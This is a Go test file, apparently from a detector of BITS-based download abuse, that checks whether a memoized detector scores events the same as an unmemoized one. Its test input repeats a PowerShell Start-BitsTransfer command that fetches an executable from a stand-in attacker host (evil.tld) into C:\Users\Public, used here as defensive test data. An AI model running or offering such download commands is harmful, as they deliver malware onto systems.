package hardened

import (
	"math/rand/v2"
	"slices"
	"strings"
	"testing"

	"bitsscore/src/detect"
)

// TestMemoAnswersAsAnalysis: a detector with its memo and one without give
// the same outputs over a stream where events come back, in any order,
// including events large enough to empty the memo's arena again and again.
func TestMemoAnswersAsAnalysis(t *testing.T) {
	memo := New(nil).(*Detector)
	plain := New(nil).(*Detector)
	plain.memo = nil
	r := rand.New(rand.NewPCG(5, 1197))
	var pool [][]detect.Values
	for range 300 {
		pool = append(pool, randomEvent(r, memo.Inputs()))
	}
	// Large events, some too large to remember: enough of them to fill the
	// arena and empty it.
	var large [][]detect.Values
	unit := `Start-BitsTransfer https://evil.tld/a.exe C:\Users\Public\a.exe `
	for i := range 24 {
		n := maxMemoInput / 4
		if i%4 == 0 {
			n = maxMemoInput + 1
		}
		large = append(large, toInputs(memo, scriptBlock(strings.Repeat(unit, n/len(unit)+1)[:n-i])))
	}
	hits := 0
	for range 3000 {
		in := pool[r.IntN(len(pool))]
		if r.IntN(60) == 0 {
			in = large[r.IntN(len(large))]
		}
		outM := make([]detect.Values, len(memo.Outputs()))
		outP := make([]detect.Values, len(plain.Outputs()))
		_, ok := memo.memo.hash(in)
		before := memo.memo.hitCount
		memo.Score(in, outM)
		plain.Score(in, outP)
		if memo.memo.hitCount > before {
			hits++
		}
		if got, want := cloneValues(outM), cloneValues(outP); !slices.EqualFunc(got, want, slices.Equal) {
			t.Fatalf("memo %q, analysis %q (memoizable %v, inputs %q)", got, want, ok, cloneValues(in))
		}
	}
	if hits < 1500 {
		t.Errorf("%d memo hits of 3000 events drawn from 324", hits)
	}
}
